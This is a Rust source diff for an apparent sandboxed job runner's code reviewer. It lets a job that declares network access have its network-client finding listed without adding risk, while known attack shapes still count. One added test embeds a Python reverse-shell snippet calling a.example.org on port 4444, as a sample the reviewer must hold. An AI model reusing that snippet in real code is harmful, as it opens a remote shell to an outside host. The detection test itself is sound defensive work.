@@ -37,6 +37,15 @@ pub struct SyntaxError {
 pub trait Reviewer: Send + Sync {
     fn review_code(&self, code: &str) -> Result<CodeReview, SyntaxError>;
 
+    /// The review of a program whose job declares what the rules `declared` find (a job that
+    /// asks for the network, whose sandbox holds it to what it asked, expects
+    /// `network.client`): those findings stay listed but add no risk; a known attack's shape
+    /// that includes them still does. A model reviewer judges the whole program as it is.
+    fn review_declared(&self, code: &str, declared: &[&str]) -> Result<CodeReview, SyntaxError> {
+        let _ = declared;
+        self.review_code(code)
+    }
+
     /// Given a finished job, propose one follow-up from the templates offered, or none. The
     /// built-in reviewer proposes nothing: only a model does (the AI planner, off unless the
     /// coordinator is given templates and a model).
@@ -187,6 +196,44 @@ impl Reviewer for BuiltinReviewer {
             reviewer: "builtin".into(),
         })
     }
+
+    fn review_declared(&self, code: &str, declared: &[&str]) -> Result<CodeReview, SyntaxError> {
+        let mut review = self.review_code(code)?;
+        if declared.is_empty() {
+            return Ok(review);
+        }
+        // A declared rule still counts when it is part of a known attack's shape that fired.
+        let in_attacks: Vec<&str> = self
+            .rules
+            .rules
+            .iter()
+            .filter(|r| !r.all.is_empty() && review.findings.iter().any(|f| f.rule == r.id))
+            .flat_map(|r| r.all.iter().map(String::as_str))
+            .collect();
+        let counted: Vec<Finding> = review
+            .findings
+            .iter()
+            .filter(|f| {
+                !declared.contains(&f.rule.as_str()) || in_attacks.contains(&f.rule.as_str())
+            })
+            .cloned()
+            .collect();
+        review.risk = self.rules.risk(&counted);
+        review.decision = self.rules.policy.decide(review.risk);
+        Ok(review)
+    }
+}
+
+/// What a job that asks for the network (`network = true` or an allow list) declares.
+pub const DECLARED_BY_NETWORK: &[&str] = &["network.client"];
+
+/// The rules a job's network setting declares.
+pub fn declared_by(network: &fleetbox_proto::Network) -> &'static [&'static str] {
+    if network.is_off() {
+        &[]
+    } else {
+        DECLARED_BY_NETWORK
+    }
 }
 
 /// The decision for a risk, by a policy: exposed for callers that combine reviewers.
@@ -201,6 +248,29 @@ mod tests {
 
     fn review(code: &str) -> CodeReview {
         BuiltinReviewer::shipped().review_code(code).unwrap()
+    }
+
+    /// A job that asks for the network declares its network client: listed, not counted; a
+    /// reverse shell's shape still is.
+    #[test]
+    fn a_declared_network_client_adds_no_risk_but_attacks_still_do() {
+        let reviewer = BuiltinReviewer::shipped();
+        let fetch =
+            "import urllib.request\nprint(urllib.request.urlopen('https://pypi.org/').status)\n";
+        let plain = reviewer.review_code(fetch).unwrap();
+        assert_eq!(plain.decision, Decision::RunOnServerOnly);
+        let declared = reviewer
+            .review_declared(fetch, DECLARED_BY_NETWORK)
+            .unwrap();
+        assert_eq!(declared.decision, Decision::Run);
+        assert_eq!(declared.risk, 0);
+        assert!(declared.findings.iter().any(|f| f.rule == "network.client"));
+        let shell = "import socket, subprocess\ns = socket.create_connection(('a.example.org', 4444))\nsubprocess.run(['sh'], stdin=s.fileno())\n";
+        let declared = reviewer
+            .review_declared(shell, DECLARED_BY_NETWORK)
+            .unwrap();
+        assert_eq!(declared, reviewer.review_code(shell).unwrap());
+        assert_eq!(declared.decision, Decision::Hold);
     }
 
     fn rules_of(code: &str) -> Vec<String> {
